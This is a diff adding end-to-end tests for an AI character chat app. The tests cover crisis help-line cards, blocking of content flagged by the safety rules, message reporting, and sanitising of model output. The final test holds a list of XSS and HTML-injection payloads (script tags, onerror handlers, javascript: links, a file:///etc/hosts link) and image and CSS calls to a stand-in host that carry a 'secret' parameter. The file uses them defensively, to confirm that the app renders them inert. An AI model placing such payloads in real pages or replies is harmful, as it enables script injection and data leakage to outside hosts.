@@ -1,0 +1,139 @@
+import { composer, enterChat, log, messages, newest, openOptions, say, storedMessages, talk } from './chat-room.ts'
+import { arrive, expect, test } from './journey.ts'
+
+test('C1 to C3: words of distress bring help lines, cost nothing, and the talk can go on', async ({
+  page,
+  journey,
+}) => {
+  journey.model.behave({ mode: 'scripted', script: ['I am glad you are here.'] })
+  await arrive(page, journey)
+  await enterChat(page, 'ilse')
+  const asked = journey.model.requests.length
+  await say(page, 'I want to end my life')
+  const card = log(page).getByRole('alert')
+  await expect(card).toContainText('You don’t have to carry this alone')
+  await expect(card).toContainText('From Everkin, not from Ilse Marlow')
+  await expect(card).toContainText('This message wasn’t charged.')
+  const lines = card.locator('a[href^="tel:"], a[href^="http"]')
+  expect(await lines.count()).toBeGreaterThan(0)
+  for (const line of await lines.all()) await expect(line).toBeVisible()
+  await expect(page.getByText('20 messages left')).toBeVisible()
+  expect(journey.model.requests.length).toBe(asked)
+  await expect(composer(page)).toBeEnabled()
+
+  // Help stays in sight after a reload, and the card is no part of the conversation.
+  await page.reload()
+  await expect(card).toContainText('You don’t have to carry this alone')
+  expect((await storedMessages(page)).map(({ role }) => role)).toEqual(['character', 'user'])
+  await talk(page, 'Thank you. How is the weather there?', 'I am glad you are here.')
+  await expect(page.getByText('19 messages left')).toBeVisible()
+  await card.getByRole('link', { name: 'More help lines, other countries' }).click()
+  await expect(page.getByRole('heading', { name: 'If you need someone now' })).toBeVisible()
+})
+
+test('B6, B7: what the rules block stays with its writer, and is taken out of a reply', async ({ page, journey }) => {
+  await arrive(page, journey)
+  await enterChat(page, 'bram')
+  const asked = journey.model.requests.length
+  const blocked = 'A [[minor-cue]] and a [[sexual-cue]]'
+  await say(page, blocked)
+  const refused = log(page).locator('[data-outgoing="failed"]')
+  await expect(refused).toContainText('It goes against our safety rules. Your text is still here.')
+  await expect(refused).toContainText(blocked)
+  await page.reload()
+  await expect(refused).toContainText(blocked)
+  await refused.getByRole('button', { name: 'Edit' }).click()
+  await expect(composer(page)).toHaveValue(blocked)
+  await expect(refused).toHaveCount(0)
+  expect(await storedMessages(page)).toHaveLength(1)
+  expect(journey.model.requests.length).toBe(asked)
+
+  journey.model.behave({
+    mode: 'scripted',
+    script: ['All is well. ', 'Then a [[minor', '-cue]] came with [[sex', 'ual-cue]] and more.'],
+    delayMs: 30,
+  })
+  await composer(page).fill('')
+  await say(page, 'Tell me a story')
+  await expect(log(page).getByText('The reply was stopped by our safety rules and wasn’t charged.')).toBeVisible()
+  await expect(log(page)).not.toContainText('sexual-cue')
+  await expect(page.getByText('20 messages left')).toBeVisible()
+  for (const { text } of await storedMessages(page)) expect(text).not.toContain('sexual-cue')
+})
+
+test('R1: a message is reported in two taps, and so is a card', async ({ page, journey, isMobile }) => {
+  journey.model.behave({ mode: 'scripted', script: ['Something to report.'] })
+  await arrive(page, journey)
+  await enterChat(page, 'june')
+  await talk(page, 'Say something', 'Something to report.')
+  await openOptions(newest(page), isMobile)
+  await newest(page).getByRole('button', { name: 'Report' }).click()
+  const dialog = page.getByRole('dialog', { name: 'What’s wrong?' })
+  await expect(dialog.getByRole('button', { name: 'Send report' })).toBeDisabled()
+  await dialog.getByRole('radio', { name: 'Something else' }).check()
+  await dialog.getByRole('button', { name: 'Send report' }).click()
+  await expect(page.getByText('Report sent. A person will look at it.')).toBeVisible()
+  await expect(dialog).toHaveCount(0)
+  await expect(messages(page)).toHaveCount(3)
+
+  await page.goto('/card/june')
+  await page.getByRole('button', { name: 'Report' }).click()
+  await dialog.getByRole('radio', { name: 'Spam' }).check()
+  await dialog.getByRole('button', { name: 'Send report' }).click()
+  await expect(page.getByText('Report sent. A person will look at it.')).toBeVisible()
+})
+
+const HOSTILE = [
+  '<img src=x onerror=alert(1)> <svg onload=alert(2)></svg> <script>alert(3)</script>\n\n',
+  '<iframe src="javascript:alert(4)"></iframe> <a href="javascript:alert(5)">here</a>\n\n',
+  '![a picture](https://canary.example/pixel.png) ![another](//canary.example/p.gif?c=secret)\n\n',
+  '[click](javascript:alert(6)) [data](data:text/html,<script>alert(7)</script>) [file](file:///etc/hosts)\n\n',
+  '[styled](https://canary.example/a "t" onmouseover=alert(8)) <style>@import url(//canary.example/s.css)</style>\n\n',
+  '<link rel=preload as=image href=https://canary.example/l.png> <meta http-equiv=refresh content=0;url=//canary.example>\n\n',
+  `${'w'.repeat(3_000)}\n\n`,
+  '\u202eevil\u202c `code <b>` **bold *and* more** {{user}} ]]> --> "quotes"\n\n',
+  'https://canary.example/shown and the end.',
+]
+
+test('XSS-02, XSS-03, XSS-05: what a model writes stays words, and calls nobody', async ({ page, journey }) => {
+  const foreign: string[] = []
+  const dialogs: string[] = []
+  page.context().on('request', (request) => {
+    if (!request.url().startsWith(journey.app.origin) && !/^(data|blob):/.test(request.url()))
+      foreign.push(request.url())
+  })
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message())
+    void dialog.dismiss()
+  })
+  await arrive(page, journey, { nickname: '<b onclick=alert(9)>Mara' })
+  await enterChat(page, 'ilse')
+  const pieces = HOSTILE.join('').match(/[\s\S]{1,7}/g) ?? []
+  journey.model.behave({ mode: 'scripted', script: pieces, delayMs: 1 })
+  await talk(page, '<img src=//canary.example/mine.png onerror=alert(10)>', 'and the end.')
+  const check = async () => {
+    const written = log(page).locator('.words')
+    await expect(written.locator('img, svg, script, iframe, style, link, meta, [onerror], [onclick]')).toHaveCount(0)
+    for (const link of await written.locator('a').all()) {
+      await expect(link).toHaveAttribute('href', /^https:\/\/canary\.example\//)
+      await expect(link).toHaveAttribute('rel', /noopener|noreferrer/)
+      // Where the words hide it, the host stands beside them.
+      await expect(link.locator('..')).toContainText('canary.example')
+    }
+    await expect(newest(page)).toContainText('<script>alert(3)</script>')
+    const width = await page.evaluate('document.documentElement.scrollWidth - document.documentElement.clientWidth')
+    expect(width).toBe(0)
+    const overflow = await log(page).evaluate('node => node.scrollWidth - node.clientWidth')
+    expect(overflow).toBeLessThanOrEqual(1)
+  }
+  await check()
+  await page.reload()
+  await expect(newest(page)).toContainText('and the end.')
+  await check()
+  await page.goto('/chathistory')
+  await expect(page.locator('[data-chat]')).toHaveCount(1)
+  await page.goto('/')
+  await expect(page.getByText('<b onclick=alert(9)>Mara').first()).toBeAttached()
+  expect(foreign).toEqual([])
+  expect(dialogs).toEqual([])
+})
